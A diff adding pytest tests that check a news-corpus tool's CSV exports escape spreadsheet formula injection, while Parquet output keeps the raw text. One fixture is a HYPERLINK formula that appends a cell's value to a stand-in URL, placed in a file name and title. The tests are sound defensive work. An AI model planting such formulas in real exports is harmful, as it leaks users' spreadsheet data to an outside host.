@@ -242,3 +242,46 @@ def test_a_duplicate_parameter_in_a_parameters_file_is_refused(tmp_path: Path):
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert "'start' is given twice (first on line 1)" in result.stderr and "line 3" in result.stderr
     assert not (tmp_path / "out").exists()
+
+
+# --- 10: CSV exports are safe to open in a spreadsheet ---------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+
+
+def test_csv_exports_neutralise_formulas_and_parquet_keeps_the_text(tmp_path: Path):
+    folder = tmp_path / "corpus"
+    folder.mkdir()
+    (folder / "=x.txt").write_text(f"{FORMULA}\n\n+Moscow said on Tuesday it would host talks.\n", encoding="utf-8")
+    (folder / "plain.txt").write_text(GOOD, encoding="utf-8")
+    result = run_cli("extract", str(folder), "--csv", str(tmp_path / "csv"))
+    assert result.returncode == 0, result.stderr
+    import csv as csv_module
+
+    for name in ("articles", "stances", "problems", "casualties"):
+        with open(tmp_path / "csv" / f"{name}.csv", encoding="utf-8", newline="") as handle:
+            for row in csv_module.reader(handle):
+                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
+    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv_module.DictReader(handle)}
+    assert rows["'=x"]["title"] == "'" + FORMULA
+    # the tables themselves, and Parquet, keep the text as it is
+    corpus = load_corpus(folder)
+    assert corpus.articles.set_index("id").loc["=x", "title"] == FORMULA
+    run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--workers", "1")
+    assert load_corpus(tmp_path / "tables").articles.set_index("id").loc["=x", "title"] == FORMULA
+
+
+def test_figure_data_csv_is_spreadsheet_safe(tmp_path: Path):
+    import matplotlib
+    import pandas as pd
+
+    matplotlib.use("Agg")
+    import matplotlib.pyplot as plt
+
+    from peacetalks.style import save_figure
+
+    fig, _ax = plt.subplots()
+    save_figure(fig, "toll", pd.DataFrame({"outlet": ["@evil", "BBC"], "value": [-3, 4]}), tmp_path)
+    plt.close(fig)
+    assert (tmp_path / "toll.csv").read_text(encoding="utf-8").splitlines() == ["outlet,value", "'@evil,-3", "BBC,4"]
